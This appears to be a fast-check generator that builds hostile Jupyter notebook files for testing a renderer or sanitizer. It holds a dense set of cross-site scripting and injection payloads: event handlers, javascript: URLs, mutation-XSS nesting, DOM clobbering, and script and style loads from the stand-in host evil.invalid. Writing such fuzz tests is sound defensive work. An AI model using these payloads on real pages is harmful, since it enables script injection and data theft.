/** Notebooks that mean harm, from a grammar: pieces of HTML, Markdown, Plotly, and lying fields. */
import fc from "fast-check";

/** What would be asked of the network, were it followed. */
const HOST = "http://evil.invalid";
const RUN = "alert(1)";

const handler = fc.constantFrom(
  "onerror",
  "onload",
  "onclick",
  "onfocus",
  "onmouseover",
  "ontoggle",
)
  .map((name) => `${name}="${RUN}"`);
const address = fc.constantFrom(
  `${HOST}/a.png`,
  "//evil.invalid/a.png",
  `javascript:${RUN}`,
  ` java\nscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  "file:///etc/passwd",
  "\\\\evil.invalid\\a",
  "x",
);
const style = fc.constantFrom(
  `background:url(${HOST}/b)`,
  "position:fixed;inset:0;z-index:9",
  `--x:url(${HOST});background:var(--x)`,
  `background:\\75rl(${HOST}/c)`,
);

/** A start tag that loads, runs or covers something. */
const tag = fc.oneof(
  fc.tuple(address, handler).map(([to, on]) => `<img src="${to}" ${on}>`),
  fc.tuple(address, handler).map(([to, on]) =>
    `<a href="${to}" ping="${HOST}" ${on} autofocus>x</a>`
  ),
  address.map((to) => `<img srcset="${to} 1x" src=x onerror=${RUN}>`),
  address.map((to) => `<svg onload=${RUN}><image href="${to}"/><use href="${to}#a"/>`),
  address.map((to) => `<svg><foreignObject><iframe src="${to}"></iframe></foreignObject></svg>`),
  address.map((to) =>
    `<math><mtext><a xlink:href="${to}"><mglyph><style><img src=x onerror=${RUN}>`
  ),
  address.map((to) => `<link rel="stylesheet" href="${to}"><base href="${to}">`),
  address.map((to) => `<meta http-equiv="refresh" content="0;url=${to}">`),
  address.map((to) =>
    `<form action="${to}"><button formaction="${to}">x</button><input autofocus>`
  ),
  address.map((to) => `<video poster="${to}" src="${to}" autoplay><source src="${to}"></video>`),
  address.map((to) => `<object data="${to}"><embed src="${to}"></object><iframe src="${to}">`),
  address.map((to) => `<table background="${to}"><td background="${to}">`),
  style.map((css) => `<p style="${css}" class="bar" id="main">x</p>`),
  fc.constantFrom(
    `<style>@import "${HOST}/d.css";body{background:url(${HOST}/e)}</style>`,
    `<script>${RUN}</script>`,
    `<script src="${HOST}/f.js"></script>`,
    `<template><script>${RUN}</script></template>`,
    `<details open ontoggle=${RUN}>`,
    `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
    `<form name=querySelectorAll><img name=getElementById id=templates>`,
    `<svg><script>${RUN}</script><style><img src=x onerror=${RUN}></style></svg>`,
    `<input type=checkbox autofocus onfocus=${RUN}>`,
    `<b id="figures">{}</b><script id=templates type=application/json>{}</script>`,
  ),
);

/** Something that another part of a page might take apart, put around it or put into it. */
const wrapped: fc.Arbitrary<string> = fc.letrec<{ piece: string }>((tie) => ({
  piece: fc.oneof(
    { depthSize: "small", withCrossShrink: true },
    tag,
    tie("piece").map((inner) => `<a title="<table>${inner}">x</a>`),
    tie("piece").map((inner) => `<a title="<h2>${inner.replaceAll('"', "'")}</h2>">x</a>`),
    tie("piece").map((inner) => `<a title='$${inner}$'>x</a>`),
    tie("piece").map((inner) => `<p>${inner}</p><table>${inner}</table>`),
    tie("piece").map((inner) => `<!--${inner}--><!--><${inner}`),
    tie("piece").map((inner) => `\uE0000\uE001&#xE000;0&#xE001;${inner}`),
    fc.tuple(tie("piece"), tie("piece")).map(([a, b]) => `${a}${b}`),
  ),
})).piece;

/** Markdown around it. */
const prose = fc.tuple(wrapped, address).chain(([inner, to]) =>
  fc.constantFrom(
    inner,
    `# ${inner}\n\n## main\n\n## templates\n\n## ${inner}`,
    `[x](${to} "${inner}") ![${inner}](${to})`,
    `[x]: ${to} "${inner.replaceAll("\n", " ")}"\n\n[x] ![x]`,
    `\`\`\`ts"${inner.replaceAll("\n", " ")}\n${inner}\n\`\`\`\n\n&#xE000;0&#xE001;`,
    `$\\href{${to}}{x}$ $\\includegraphics{${HOST}/g}$ $\\htmlData{a=b}{x}$ $x${inner}$`,
    `$$\n${inner}\n$$\n\n\\begin{align}\n${inner}\n\\end{align}`,
    `| a |\n|---|\n| ${inner.replaceAll("\n", " ")} |\n\n- [ ] ${inner}`,
    `x[^${inner.slice(0, 20).replaceAll(/[\]\n]/g, "")}] y[^1]\n\n[^1]: ${inner}`,
    `<tex-formula title="display">${inner}</tex-formula>`,
    `<pre><code class="language-ts">${inner}</code></pre>`,
    `![x](attachment:a.png)`,
  )
);

/** A Plotly figure that asks for pictures, maps or handlers. */
const figure = fc.tuple(wrapped, address).map(([inner, to]) => ({
  data: [{
    type: "scatter",
    x: [1, 2],
    y: [1, 2],
    mode: "markers+text",
    name: inner,
    text: [`<a href="${to}" popup="x');${RUN}//">x</a>`, `<span style="background:url(${HOST})">y`],
    hovertemplate: `<a %{customdata}>x</a>`,
    customdata: [`href='${HOST}' popup='1'`, inner],
  }],
  layout: {
    images: [{ source: to, x: 0, y: 1, sizex: 1, sizey: 1 }, { source: `${HOST}/h.png` }],
    title: { text: inner },
    annotations: [{ text: `<a href="${to}" target="_self" popup="1">z</a>`, x: 1, y: 1 }],
    font: { family: `"><img src=x onerror=${RUN}>` },
    updatemenus: [{
      buttons: [{
        label: inner,
        method: "relayout",
        args: [{ "images[0].source": `${HOST}/i.png` }],
      }],
    }],
    height: 1e9,
  },
}));

/** One output, its kind and fields not always what they say. */
const output = fc.oneof(
  wrapped.map((html) => display({ "text/html": html })),
  prose.map((markdown) => display({ "text/markdown": markdown })),
  wrapped.map((tex) => display({ "text/latex": `$$${tex}$$` })),
  wrapped.map((json) => display({ "application/json": { [json]: json } })),
  wrapped.map((svg) =>
    display({ "image/svg+xml": `<svg xmlns="http://www.w3.org/2000/svg">${svg}` })
  ),
  figure.map((plot) =>
    display({ "application/vnd.plotly.v1+json": plot, "text/plain": "a figure" })
  ),
  wrapped.map((text) => ({ "output_type": "stream", name: `stdout" autofocus ${text}`, text })),
  wrapped.map((text) => ({
    "output_type": "error",
    ename: text,
    evalue: `\u001b[31m${text}`,
    traceback: [text],
  })),
  fc.constantFrom(null, 7, {}, { "output_type": "display_data" }, display(null)),
);

function display(data: unknown): Record<string, unknown> {
  return { "output_type": "display_data", data, metadata: {} };
}

const cell = fc.oneof(
  prose.map((source) => ({ "cell_type": "markdown", id: "a", metadata: {}, source })),
  fc.tuple(wrapped, fc.array(output, { maxLength: 2 })).map(([text, outputs]) => ({
    "cell_type": "code",
    id: `"><img src=x onerror=${RUN}>`,
    metadata: {},
    "execution_count": `1" ${text}`,
    source: `// ${text}\nx`,
    outputs,
  })),
);

/** A whole hostile notebook, as the text of its file. */
export const hostileNotebook: fc.Arbitrary<string> = fc.record({
  cells: fc.array(cell, { minLength: 2, maxLength: 5 }),
  metadata: wrapped.map((name) => ({ "language_info": { name }, kernelspec: { language: name } })),
}).map((notebook) => JSON.stringify({ ...notebook, nbformat: 4, "nbformat_minor": 5 }));
